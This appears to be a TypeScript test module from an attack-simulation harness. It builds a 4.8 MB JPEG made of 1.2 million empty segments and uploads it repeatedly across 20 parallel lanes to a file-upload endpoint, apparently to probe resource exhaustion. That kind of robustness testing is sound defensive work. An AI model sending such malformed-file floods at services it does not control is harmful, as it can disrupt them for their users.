import type { Attack } from '../attack.ts';

/** 1.2 million empty segments. */
const JPEG = Buffer.concat([
  Buffer.from('ffd8', 'hex'),
  Buffer.alloc(4_800_000, Buffer.from('ffcf0002', 'hex')),
]);

export const attack: Attack = {
  description: 'uploads of 4.8 MB JPEG files of 1.2 million segments',
  run: async attacker => {
    const type = { 'content-type': 'application/octet-stream' };
    const response = await attacker.http('POST', '/api/files?name=a.jpg', JPEG, type);
    if (response?.status !== 200) return;
    const { id: fileId } = JSON.parse(response.body) as { id: string };
    await attacker.command('discard_file', { fileId });
  },
  lanes: 20,
};
